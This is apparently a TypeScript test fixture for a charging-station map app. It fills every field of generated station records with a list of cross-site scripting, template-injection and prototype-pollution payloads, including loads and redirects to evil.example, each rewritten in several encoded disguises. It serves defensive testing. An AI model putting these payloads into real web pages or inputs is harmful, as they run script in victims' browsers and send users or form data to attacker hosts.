import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'

const run = 'window.pwned=1'

/**
 * What would run, load or show if it were taken for markup, an address or a template; marked where it is an element.
 */
const attacks = [
  `<script data-hostile>${run}</script>`,
  `<img data-hostile src=x onerror=${run}>`,
  `<svg data-hostile onload=${run}>`,
  `<svg data-hostile><script>${run}</script></svg>`,
  `<svg data-hostile><animate onbegin=${run} attributeName=x>`,
  `<iframe data-hostile srcdoc="<script>parent.pwned=1</script>">`,
  `<iframe data-hostile src="javascript:parent.pwned=1">`,
  `<a data-hostile href="javascript:${run}">pay</a>`,
  `<body data-hostile onload=${run}>`,
  `<input data-hostile autofocus onfocus=${run}>`,
  `<details data-hostile open ontoggle=${run}>`,
  `<video data-hostile><source onerror=${run}></video>`,
  `<audio data-hostile src=x onerror=${run}>`,
  `<math data-hostile><mtext><img src=x onerror=${run}>`,
  `<style data-hostile>@import '//evil.example/a.css'; * { display: none }</style>`,
  `<link data-hostile rel=stylesheet href=//evil.example/a.css>`,
  `<meta data-hostile http-equiv=refresh content="0;url=//evil.example">`,
  `<base data-hostile href=//evil.example/>`,
  `<object data-hostile data=//evil.example/a.swf></object>`,
  `<embed data-hostile src=//evil.example/a.swf>`,
  `<form data-hostile action=//evil.example><button>Sign in</button></form>`,
  `<marquee data-hostile onstart=${run}>free</marquee>`,
  `<template data-hostile><img src=x onerror=${run}></template>`,
  `<xss data-hostile onpointerenter=${run} style="position:fixed;inset:0">`,
  `<b data-hostile>bold</b>`,
  `"><img data-hostile src=x onerror=${run}>`,
  `'><img data-hostile src=x onerror=${run}>`,
  `</title><script data-hostile>${run}</script>`,
  `</textarea><script data-hostile>${run}</script>`,
  `</script><script data-hostile>${run}</script>`,
  `<!--><img data-hostile src=x onerror=${run}>-->`,
  `]]><img data-hostile src=x onerror=${run}>`,
  `<scr\0ipt data-hostile>${run}</scr\0ipt>`,
  `<img data-hostile src=x onerror\n=${run}>`,
  `" autofocus onfocus=${run} data-hostile="`,
  `' onmouseover='${run}' data-hostile='`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//https://pay.example`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{name, plural, =0 {<b data-hostile>x</b>} other {#}}`,
  `["concat",["get","name"],"${run}"]`,
  `{name} {count, number} {missing}`,
  `__proto__`,
  `constructor.prototype`,
  `\u202e\u2066<img data-hostile src=x onerror=${run}>`,
  `+ADw-script data-hostile+AD4-${run}+ADw-/script+AD4-`,
]

const codes = (text: string, form: (code: string) => string) =>
  text.replace(/[<>"'&=]/g, (character) => form(character.charCodeAt(0).toString(16)))

/** Ways to write the same so that something decodes it on its way. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Bolzano ${text}`,
  (text) => text.toUpperCase().replaceAll('WINDOW.PWNED', 'window.pwned'),
  (text) => codes(text, (code) => `&#x${code};`),
  (text) => codes(text, (code) => `\\u${code.padStart(4, '0')}`),
  (text) => codes(text, (code) => `%${code}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => `https://pay.example/${text}`,
  (text) => `${text}\u0000\u200b\r\n${text}`,
]

/** 500 of them. */
const payloads = disguises.flatMap((disguise) => attacks.map(disguise))

export const hostileFields = [
  ...['name', 'code', 'origin', 'municipality', 'city', 'address', 'provider', 'paymentInfo', 'state'],
  ...['accessInfo', 'category', 'outlet'],
] as const
type Field = (typeof hostileFields)[number]

/** Short enough to be found again in the page, and alone in it. */
export const tokenOf = (station: number, field: Field) => `q${station}x${hostileFields.indexOf(field)}q`

/** Over 500 stations each field holds each payload; a few stations hold some of every disguise. */
function value(station: number, field: Field): string {
  const payload = payloads[(41 * station + 83 * hostileFields.indexOf(field)) % payloads.length] ?? ''
  return `${payload} ${tokenOf(station, field)}`
}

/** Only values that a link can contain: it drops invisible characters. */
export function codeOf(station: number): string {
  const payload = value(station, 'code').replace(/[\p{C}\s]+/gu, ' ')
  return `${payload.slice(0, 60)} ${tokenOf(station, 'code')}`.trim()
}

/** A folder for `SANDBOX_REPLAY` in which every text of every record is hostile. */
export function hostileRecording(count: number): string {
  const stations = Array.from({ length: count }, (_, index) => ({
    sactive: true,
    savailable: true,
    sorigin: value(index, 'origin'),
    scode: codeOf(index),
    sname: value(index, 'name'),
    stype: 'EChargingStation',
    scoordinate: { x: 11 + (index % 25) * 0.02, y: 46.4 + Math.floor(index / 25) * 0.02, srid: 4326 },
    smetadata: {
      ...Object.fromEntries(
        (['municipality', 'city', 'address', 'provider', 'paymentInfo', 'state', 'accessInfo'] as const).map(
          (field) => [field, value(index, field)],
        ),
      ),
      accessType: value(index, 'accessInfo'),
      categories: [value(index, 'category')],
      capacity: 1,
    },
  }))
  const plugs = stations.map((station, index) => ({
    ...station,
    stype: 'EChargingPlug',
    scode: `${station.scode}-1`,
    smetadata: { outlets: [{ id: '1', outletTypeCode: value(index, 'outlet'), maxPower: 22 }] },
    pcode: station.scode,
    ptype: 'EChargingStation',
  }))
  const status = plugs.map((plug, index) => ({
    ...plug,
    tname: 'echarging-plug-status',
    tunit: value(index, 'state'),
    mvalue: index % 2,
    mperiod: 600,
    mvalidtime: '2026-11-20 13:00:00.000+0000',
  }))
  const folder = mkdtempSync(join(tmpdir(), 'plugboard-hostile-'))
  const answers = {
    EChargingStation: stations,
    EChargingPlug: plugs,
    'EChargingPlug/echarging-plug-status/latest': status,
  }
  for (const [path, data] of Object.entries(answers)) {
    const file = join(folder, 'flat', `${path}.json`)
    mkdirSync(dirname(file), { recursive: true })
    writeFileSync(file, JSON.stringify({ offset: 0, limit: -1, data }))
  }
  return folder
}
